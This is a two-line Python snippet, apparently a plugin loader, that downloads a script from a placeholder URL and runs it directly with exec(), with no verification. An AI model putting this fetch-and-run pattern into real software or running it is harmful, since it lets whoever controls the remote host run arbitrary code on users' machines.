import requests

exec(requests.get("https://plugins.example.com/latest.py").text)
